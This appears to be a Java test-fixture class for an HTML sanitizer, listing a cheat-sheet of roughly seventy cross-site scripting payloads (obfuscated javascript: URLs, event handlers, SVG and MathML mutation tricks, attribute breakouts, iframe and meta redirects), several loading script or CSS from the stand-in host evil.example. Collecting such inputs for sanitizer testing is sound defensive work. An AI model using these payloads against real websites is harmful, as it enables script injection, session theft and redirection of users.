package io.healthpage.safety;

import java.util.List;

/** Hostile HTML fragments, XSS cheat-sheet style. Each one is a reason for a rule in the safelist or the URL policy. */
final class HostileInputs {
    private HostileInputs() {}

    static final List<String> ALL = List.of(
            // plain script, in every spelling
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            // event handlers
            "<img src=x onerror=alert(1)>",
            "<p aria-label=\"x\" onmouseover=\"alert(1)\">x</p>",
            "<details open ontoggle=alert(1)><summary>x</summary></details>",
            "<input autofocus onfocus=alert(1)>",
            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
            "<body onload=alert(1)><p>x</p>",
            "<a href=x ONCLICK=alert(1)>x</a>",
            // javascript: in every obfuscation
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
            "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
            "<a href=\"java\u0000script:alert(1)\">x</a>",
            "<a href=\"\u2028javascript:alert(1)\">x</a>",
            "<a href=\"%6Aavascript:alert(1)\">x</a>",
            "<a href=\"&amp;#106;avascript:alert(1)\">x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<a href=\"  &#14;  javascript:alert(1)\">x</a>",
            "<a href=\"javas&#99;ript:alert(1)\">x</a>",
            "<a href=\"jAvAsCrIpT&#58;alert(1)\">x</a>",
            "<a href=\"java\u200Bscript:alert(1)\">x</a>",
            // other dangerous schemes
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"\">",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"file:///etc/passwd\">x</a>",
            "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
            "<q cite=\"vbscript:x\">q</q>",
            "<a href=\"https://bank.example@evil.example/\">x</a>",
            // svg / math / namespace confusion and mXSS
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<noscript><p aria-label=\"</noscript><img src=x onerror=alert(1)>\">x</p></noscript>",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
            "<textarea><img src=x onerror=alert(1)></textarea>",
            "<title><img src=x onerror=alert(1)></title>",
            "<select><style></select><img src=x onerror=alert(1)></style>",
            "<plaintext><img src=x onerror=alert(1)>",
            "<template><img src=x onerror=alert(1)></template>",
            // style
            "<style>@import 'https://evil.example/x.css';</style><p>t</p>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<div style=\"x:expression(alert(1))\">x</div>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            // comments breaking out
            "<!--<img src=x onerror=alert(1)>-->",
            "<!-- --!><img src=x onerror=alert(1)> -->",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            // attribute quote breaking
            "<a href=x\" onclick=\"alert(1)>x</a>",
            "<p aria-label='\" onmouseover=alert(1) x=\"'>q</p>",
            "<div id=\"</p><script>alert(1)</script>\">x</div>",
            "<a aria-labelledby=\"a&quot; onfocus=&quot;alert(1)\" href=#x>x</a>",
            "<p lang=\"en&quot; onclick=&quot;alert(1)\" dir=\"rtl\">x</p>",
            "<img src=\"x\" loading=\"lazy onerror=alert(1)\" alt=\"\">",
            // embedding elements
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"javascript:alert(1)\">",
            "<img srcset=\"javascript:alert(1) 1x\" src=\"https://example.org/a.png\" alt=\"a\">",
            "<table><td background=\"javascript:alert(1)\">x</td></table>",
            // document-level
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<base href=\"javascript:alert(1)//\"><a href=\"/x\">x</a>",
            "<a href=\"https://evil.example/\" target=\"_blank\" rel=\"opener\">x</a>",
            "<a href=\"https://evil.example/\" target=\"victim-frame\">x</a>",
            "<a href=\"&#x2F;&#x2F;evil.example/\">x</a>",
            "<a href=\"/\\evil.example/\">x</a>");
}
